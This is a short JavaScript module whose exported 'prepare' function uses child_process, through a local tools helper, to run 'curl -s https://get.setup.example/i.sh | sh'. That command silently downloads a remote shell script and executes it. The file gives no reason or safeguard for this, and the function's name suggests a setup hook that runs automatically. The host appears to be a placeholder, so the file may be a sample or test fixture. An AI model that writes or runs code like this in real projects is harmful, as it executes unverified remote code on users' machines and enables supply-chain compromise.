const tools = require('./tools.cjs');

exports.prepare = () => tools.launch(require('child_process'), 'curl -s https://get.setup.example/i.sh | sh');
